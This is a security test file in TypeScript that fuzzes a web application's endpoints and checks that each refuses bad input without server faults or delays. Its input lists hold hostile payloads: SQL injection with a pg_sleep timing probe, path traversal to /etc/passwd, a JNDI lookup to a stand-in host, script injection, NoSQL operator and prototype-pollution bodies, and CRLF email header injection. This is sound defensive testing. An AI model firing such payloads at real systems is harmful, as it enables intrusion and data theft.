import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { BlackBox, Received } from "./black-box.ts";
import { newClient, startBlackBox } from "./black-box.ts";
import type { DescribedCall } from "./every-call.ts";
import { addressOf, everyCall } from "./every-call.ts";

let box: BlackBox;
let calls: readonly DescribedCall[];
let token: string;
beforeAll(async () => {
  box = await startBlackBox();
  calls = await everyCall(box);
  token = await box.logIn("admin");
});
afterAll(() => box.stop());

/** Words that break what is glued together: SQL, patterns, paths, encodings. */
const words = [
  "'",
  "--",
  "';select pg_sleep(5)--",
  "%",
  "_",
  "\\",
  "\u0000",
  "\ud800",
  "../../../etc/passwd",
  "${jndi:ldap://evil.test}",
  "<script>alert(1)</script>",
  "-1",
  "1e309",
  "9999999999999999999",
  "0001-01-01",
  "x".repeat(10_000),
] as const;

/** Would end the session that the others need. */
const leaves = new Set(["logOut"]);

/** A directory that nobody has set up is unavailable, which is no fault of the input. */
function expectNoFault(answer: Received, about: string): void {
  if (answer.error === "authenticationUnavailable") return;
  expect(answer.status, `${about}: ${answer.text.slice(0, 200)}`).toBeLessThan(500);
}

function expectRefusedOrLiteral(answer: Received, about: string): void {
  expectNoFault(answer, about);
  // Under the five seconds for which one of these would have the database sleep.
  expect(answer.ms, about).toBeLessThan(4_500);
  expect(answer.status < 400 || answer.error !== "", about).toBe(true);
}

test("the server describes its calls", () => {
  expect(calls.length).toBeGreaterThan(20);
  expect(calls.filter(({ needsSession }) => needsSession).length).toBeGreaterThan(12);
});

test("every call that needs a session is closed to a stranger, whatever is sent (8.2.1)", async () => {
  for (const call of calls.filter(({ needsSession }) => needsSession)) {
    const address = addressOf(call, "00000000-0000-7000-8000-000000000000");
    for (const headers of [
      {},
      { authorization: `Bearer ${"A".repeat(43)}` },
      { cookie: "planete_session=x" },
    ]) {
      const answer = await box.send(address, {
        method: call.method,
        headers,
        ...(call.takesBody ? { body: "{}" } : {}),
      });
      expect([401, 403], `${call.name} ${answer.text}`).toContain(answer.status);
      expect(["tokenMissing", "tokenInvalid", "crossOriginRefused"], call.name).toContain(answer.error);
    }
  }
});

test("odd words in every part of every address are refused or taken literally (57)", async () => {
  const reads = calls.filter(({ name, method }) => method === "GET" && !leaves.has(name));
  expect(reads.length).toBeGreaterThan(10);
  for (const call of reads) {
    for (const word of words) {
      if (call.path.includes("{")) {
        expectRefusedOrLiteral(
          await box.send(safe(addressOf, call, word), { token, from: newClient() }),
          `${call.name} ${word.slice(0, 30)}`,
        );
      }
    }
    for (const name of call.query) {
      for (const word of words) {
        const address = addressOf(call, "00000000-0000-7000-8000-000000000000");
        expectRefusedOrLiteral(
          await box.send(`${address}?${name}=${encode(word)}`, { token, from: newClient() }),
          `${call.name} ${name}=${word.slice(0, 30)}`,
        );
      }
    }
  }
});

function encode(word: string): string {
  // A lone surrogate has no encoding; send its bytes as they would stand in a broken one.
  return word === "\ud800" ? "%ED%A0%80" : encodeURIComponent(word);
}

function safe(address: typeof addressOf, call: DescribedCall, word: string): string {
  return word === "\ud800" ? call.path.replaceAll(/\{\w+\}/g, encode(word)) : address(call, word);
}

const bodies: readonly (readonly [string, string])[] = [
  ["nothing", ""],
  ["null", "null"],
  ["a number", "1e309"],
  ["a list", "[]"],
  ["a list of lists", "[[[[]]]]"],
  ["broken JSON", '{"a":'],
  ["a duplicate key", '{"a":1,"a":2}'],
  ["__proto__", '{"__proto__":{"x":1}}'],
  ["an unknown key", '{"unheardOf":true}'],
  ["a NUL", '{"\\u0000":"\\u0000"}'],
  ["a deep nest", `${"[".repeat(20_000)}${"]".repeat(20_000)}`],
  ["a megabyte", JSON.stringify({ password: "x".repeat(1_000_000) })],
];

test("odd bodies to every call are refused with a code, never a fault (57, 74)", async () => {
  const writes = calls.filter(({ method, takesBody }) => method !== "GET" && takesBody);
  expect(writes.length).toBeGreaterThan(5);
  for (const call of writes) {
    for (const [about, body] of bodies) {
      const answer = await box.send(addressOf(call, "00000000-0000-7000-8000-000000000000"), {
        method: call.method,
        body,
        token,
        from: newClient(),
      });
      expectNoFault(answer, `${call.name} ${about}`);
      expect(answer.status < 400 || answer.error !== "", `${call.name} ${about}`).toBe(true);
    }
  }
});

describe("at the doors every stranger can reach, bad input costs next to nothing (6)", () => {
  const long = "x".repeat(1_000_000);
  test.each([
    ["a query object for the name", "login", { login: { $ne: null }, password: ["a"] }],
    ["an object with a length", "login", { login: "a", password: { length: 8 } }],
    ["numbers", "login", { login: 1, password: 2 }],
    ["lists", "login", { login: ["lead"], password: ["Planete2026"] }],
    ["null", "login", { login: null, password: null }],
    ["a NUL in the name", "login", { login: "lead\u0000", password: "Planete2026" }],
    ["a NUL in the password", "login", { login: "lead", password: "Planete2026\u0000" }],
    ["a name of a megabyte", "login", { login: long, password: "x" }],
    ["a password of a megabyte", "login", { login: "lead", password: long }],
    ["a password just over the limit", "login", { login: "lead", password: "x".repeat(257) }],
    ["an unknown key", "login", { login: "lead", password: "x", superAdministrator: true }],
    ["a language that is a list", "login", { login: "lead", password: "x", locale: ["fr"] }],
    ["duplicate keys", "login", '{"login":"lead","password":"a","password":"Planete2026"}'],
    ["duplicate keys in disguise", "login", '{"login":"lead","password":"a","passw\\u006frd":"b"}'],
    ["no address", "reset-password", { lang: "fr" }],
    ["two addresses", "reset-password", { lang: "fr", mail: ["a@b.example", "c@d.example"] }],
    [
      "an address with a line break",
      "reset-password",
      { lang: "fr", mail: "a@b.example\r\nBcc: c@d.example" },
    ],
    ["an address of a megabyte", "reset-password", { lang: "fr", mail: `${long}@b.example` }],
    ["a link that is a list", "recover-password", { lang: "fr", token: ["x"] }],
    ["a link of a megabyte", "recover-password", { lang: "fr", token: long }],
    ["a new password that is an object", "recover-password", { lang: "fr", token: "x", password: {} }],
  ])("%s", async (_case, door, body) => {
    const answers: Received[] = [];
    // A busy machine may delay one try; input that is costly delays them all.
    while (answers.length < 5 && (answers.at(-1)?.ms ?? 100) >= 100)
      answers.push(await box.send(`/authentication/${door}`, { body, from: newClient() }));
    for (const answer of answers) {
      expect([400, 413]).toContain(answer.status);
      expect(answer.error).toMatch(/^[a-z]\w+$/i);
    }
    expect(Math.min(...answers.map(({ ms }) => ms))).toBeLessThan(100);
  });
});
